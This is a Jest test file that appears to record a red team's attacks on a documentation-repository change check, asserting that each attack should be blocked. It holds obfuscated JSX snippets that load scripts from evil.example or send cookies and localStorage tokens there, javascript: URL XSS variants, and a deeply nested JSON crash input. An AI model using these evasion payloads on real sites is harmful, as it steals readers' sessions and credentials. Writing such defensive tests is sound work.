import { describe, expect, test } from '@jest/globals'
import type { Emulator } from '../../../emulator/server.ts'
import { eventEnv, payload } from '../../../emulator/webhooks.ts'
import type { PullChangeFile } from '../../../emulator/pull-changes.ts'
import { runCheck, withEmulator } from '../harness.js'

/**
 * The red team's attacks on the merged release candidate of issue #52, through the bundles
 * against the emulator. Each test states what SHOULD hold; each is marked `failing` because the
 * bundle of this branch does not hold it yet (the report says why, and where).
 */
// REDTEAM_SHOW=1 runs them as plain tests, to see each fail where it should.
const failing = process.env.REDTEAM_SHOW === '1' ? test.concurrent : test.concurrent.failing

// ---------------------------------------------------------------------------------------------
// 2-4. The change check, as the docs repository's required check (the check action's bundle)
// ---------------------------------------------------------------------------------------------

const AGENT = { login: 'mintlify[bot]', type: 'Bot' as const }
const PAGE_BASE = '---\ntitle: Quickstart\n---\n\n# Quickstart\n\nInstall the SDK.\n'

/** The agent's pull request in acme/docs with `files` as its change, and its event. */
function agentPull(emulator: Emulator, files: PullChangeFile[]) {
  const issue = emulator.github.addIssue('acme/docs', {
    title: 'Docs',
    pullRequest: true,
    user: AGENT,
  })
  const ends = emulator.github.seedPullChange({ number: issue.number, files })
  const body = payload('pull_request', 'opened', (p) => {
    p.number = issue.number
    p.pull_request.number = issue.number
    p.pull_request.user.login = AGENT.login
    p.pull_request.user.type = AGENT.type
    p.pull_request.head.sha = ends.headSha
    p.pull_request.base.sha = ends.baseSha
  })
  return { number: issue.number, ...ends, env: eventEnv('pull_request_target', body) }
}

/** The docs-agent/changes statuses written, as `[state, description]`. */
const changesStatuses = (emulator: Emulator) =>
  emulator.github.commits.statuses
    .filter((s) => s.context === 'docs-agent/changes')
    .map((s) => [s.state, s.description])

const SNIPPETS = { 'allowed-paths': 'defaults\nsnippets/**/*.jsx' }

describe('redteam 2: a component the team allows runs what the check promises to find', () => {
  failing.each([
    [
      'a remote script whose tag name is put together at run time',
      [
        'export const Analytics = () => {',
        "  const s = document.createElement('scr' + 'ipt')",
        "  s.src = 'https://evil.example/track.js'",
        '  document.head.appendChild(s)',
        '  return null',
        '}',
      ],
    ],
    [
      "the reader's cookies sent through aliases of document and fetch",
      [
        'export const Beacon = () => {',
        '  const d = document',
        '  const send = fetch',
        "  send('https://evil.example/c?' + d.cookie)",
        '  return null',
        '}',
      ],
    ],
    [
      'eval taken out of window by destructuring',
      [
        'export const Run = ({ code }) => {',
        '  const { eval: run } = window',
        "  run(atob('ZmV0Y2goImh0dHBzOi8vZXZpbC5leGFtcGxlIik='))",
        '  return null',
        '}',
      ],
    ],
    [
      'the Function constructor through an alias',
      [
        'export const Run = () => {',
        '  const F = [].constructor.constructor',
        "  F('return fetch(\\'https://evil.example/\\' + localStorage.token)')()",
        '  return null',
        '}',
      ],
    ],
    [
      "readers' storage sent as an image's address",
      [
        'export const Pixel = () => {',
        "  new Image().src = 'https://evil.example/p?t=' + localStorage.getItem('session')",
        '  return null',
        '}',
      ],
    ],
  ])('%s: blocked', (_, lines) => {
    return withEmulator({}, async (emulator) => {
      const pull = agentPull(emulator, [
        { path: 'snippets/widget.jsx', head: `${lines.join('\n')}\n` },
      ])
      const run = await runCheck(emulator, SNIPPETS, pull.env)
      expect(run.outputs['change-check']).toBe('blocked')
      expect(changesStatuses(emulator)[0]?.[0]).toBe('failure')
    })
  })
})

describe('redteam 3: a javascript: URL in a page, given by an expression the check lets through', () => {
  failing.each([
    [
      'an exported string',
      "export const docs = 'javascript:fetch(`//evil.example/`+document.cookie)'\n\n<a href={docs}>Open the docs</a>\n",
    ],
    ['a concatenation', "<a href={'java' + 'script:alert(document.domain)'}>Open</a>\n"],
    [
      'a template with a placeholder',
      '<a href={`java${"script"}:alert(document.domain)`}>Open</a>\n',
    ],
    [
      'a conditional',
      "<Card title=\"Start\" href={true ? 'javascript:alert(document.domain)' : ''}>Go</Card>\n",
    ],
    ['an array element', "<a href={['javascript:alert(document.domain)'][0]}>Open</a>\n"],
  ])('%s: blocked, as the string itself is', (_, added) => {
    return withEmulator({}, async (emulator) => {
      const pull = agentPull(emulator, [
        { path: 'guides/quickstart.mdx', base: PAGE_BASE, head: `${PAGE_BASE}\n${added}` },
      ])
      const run = await runCheck(emulator, {}, pull.env)
      expect(run.outputs['change-check']).toBe('blocked')
      expect(changesStatuses(emulator)[0]?.[0]).toBe('failure')
    })
  })
})

describe('redteam 4: a key of the change quoted back', () => {
  /** An AWS secret access key (AWS's documented example, its slashes taken out). */
  const SECRET = 'wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEYab'
  failing(
    'one a page past 128 KiB holds (unparsed, so its keys are never collected) is quoted by a finding of another page',
    async () => {
      await withEmulator({}, async (emulator) => {
        const config = `aws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = ${SECRET}\n`
        const big = `${PAGE_BASE}\n\`\`\`ini\n${config}\`\`\`\n\n${'Filler text of a long page.\n'.repeat(6000)}`
        const pull = agentPull(emulator, [
          { path: 'guides/credentials.mdx', base: PAGE_BASE, head: big },
          { path: 'guides/quickstart.mdx', base: PAGE_BASE, head: `${PAGE_BASE}\n{${SECRET}}\n` },
        ])
        const run = await runCheck(emulator, {}, pull.env)
        expect(run.outputs['change-check']).toBe('blocked')
        const shown = JSON.stringify([
          run.outputs,
          run.summary,
          run.stdout,
          emulator.github.commits.statuses,
        ])
        expect(shown).not.toContain(SECRET)
      })
    },
  )
})

describe('redteam 8: a docs config nested deep crashes the judge', () => {
  failing(
    'docs.json nested 5,000 deep: a finding (unchecked), not a failed step whose every re-run fails the same',
    async () => {
      await withEmulator({}, async (emulator) => {
        const nested = `${'['.repeat(5000)}1${']'.repeat(5000)}`
        const pull = agentPull(emulator, [
          {
            path: 'docs.json',
            base: '{ "name": "Acme" }\n',
            head: `{ "name": "Acme", "navigation": ${nested} }\n`,
          },
        ])
        const run = await runCheck(emulator, {}, pull.env)
        expect(run.code).toBe(0)
        expect(run.outputs['change-check']).toBe('blocked')
        expect(changesStatuses(emulator)).toEqual([['failure', expect.any(String)]])
      })
    },
  )
})
